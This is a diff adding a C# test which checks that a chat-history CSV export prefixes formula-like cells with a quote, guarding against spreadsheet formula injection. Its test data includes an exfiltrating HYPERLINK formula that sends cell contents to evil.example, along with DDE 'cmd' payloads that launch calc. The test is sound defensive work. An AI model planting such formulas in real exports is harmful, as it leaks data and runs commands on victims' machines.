@@ -257,13 +257,67 @@ public sealed class ExportHistoryTests
             Assert.Equal(["a \"quoted\"", "b, with comma", "ünï"], row[3].Split(';'));
             Assert.Equal(ids[i], Guid.Parse(row[4]));
             Assert.Equal(i % 2 == 0 ? "user" : "assistant", row[5]);
-            Assert.Equal(contents[i], row[6]);
+            Assert.Equal(contents[i].StartsWith('=') ? "'" + contents[i] : contents[i], row[6]);
             var expected = new DateTime(2026, 1, 15, 12, 0, 0, DateTimeKind.Utc).AddMilliseconds(1500 * i);
             Assert.Equal(expected, DateTime.Parse(row[7], CultureInfo.InvariantCulture, DateTimeStyles.AdjustToUniversal));
         }
 
         Assert.Equal("2026-01-15T12:00:00Z", rows[1][7]);
         Assert.Equal("2026-01-15T12:00:01.5Z", rows[2][7]);
+    }
+
+    /// <summary>API.md §4: a plain user writes formulas into content, titles and labels; the admin's spreadsheet must not run them.</summary>
+    [Fact]
+    public async Task CsvCellsThatASpreadsheetWouldRunArePrefixedWithAQuote()
+    {
+        await using var factory = new DotApiFactory();
+        var (_, _, admin) = await factory.CreateCallerAsync("admin@example.com", Role.Admin);
+        var (_, _, user) = await factory.CreateCallerAsync("user@example.com");
+        string[] leads = ["=", "+", "-", "@", "\t", "\r"];
+        string[] payloads =
+        [
+            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")",
+            "=cmd|' /C calc'!A0",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "a=1 (not at the start)",
+        ];
+        var chat = await user.CreateChatAsync("=HYPERLINK(\"https://evil.example\",\"Open\")");
+        foreach (var payload in payloads)
+        {
+            await user.SayAsync(chat, "user", payload);
+            factory.Time.Advance(TimeSpan.FromSeconds(1));
+        }
+
+        Assert.Equal(HttpStatusCode.OK, (await user.LabelAsync(chat, "+label")).StatusCode);
+        var other = await user.CreateChatAsync("@title");
+        await user.SayAsync(other, "assistant", "fine");
+        Assert.Equal(HttpStatusCode.OK, (await user.LabelAsync(other, "-minus", "=eq", "@at")).StatusCode);
+
+        var rows = Rfc4180.Parse(await (await admin.GetAsync($"{Export}?format=csv")).Content.ReadAsStringAsync());
+
+        Assert.Equal(payloads.Length + 2, rows.Count);
+        var cells = rows.Skip(1).SelectMany(r => r).ToList();
+        foreach (var cell in cells)
+        {
+            Assert.False(leads.Any(l => cell.StartsWith(l, StringComparison.Ordinal)), $"a cell a spreadsheet would run: {cell}");
+        }
+
+        var contents = rows.Skip(1).Where(r => r[0] == chat.ToString()).Select(r => r[6]).ToList();
+        Assert.Equal(payloads.Select(p => leads.Any(l => p.StartsWith(l, StringComparison.Ordinal)) ? "'" + p : p), contents);
+        Assert.All(rows.Skip(1).Where(r => r[0] == chat.ToString()), r => Assert.Equal("'=HYPERLINK(\"https://evil.example\",\"Open\")", r[1]));
+        Assert.All(rows.Skip(1).Where(r => r[0] == chat.ToString()), r => Assert.Equal("'+label", r[3]));
+        var otherRow = rows.Single(r => r[0] == other.ToString());
+        Assert.Equal("'@title", otherRow[1]);
+        Assert.Equal("'-minus;=eq;@at", otherRow[3]);
+
+        // The JSON formats carry the text exactly as it was written.
+        var json = JsonDocument.Parse(await (await admin.GetAsync(Export)).Content.ReadAsStringAsync()).RootElement;
+        var first = json.EnumerateArray().Single(c => c.GetProperty("chat_id").GetGuid() == chat);
+        Assert.Equal(payloads, first.GetProperty("messages").EnumerateArray().Select(m => m.GetProperty("content").GetString()));
     }
 
     [Fact]
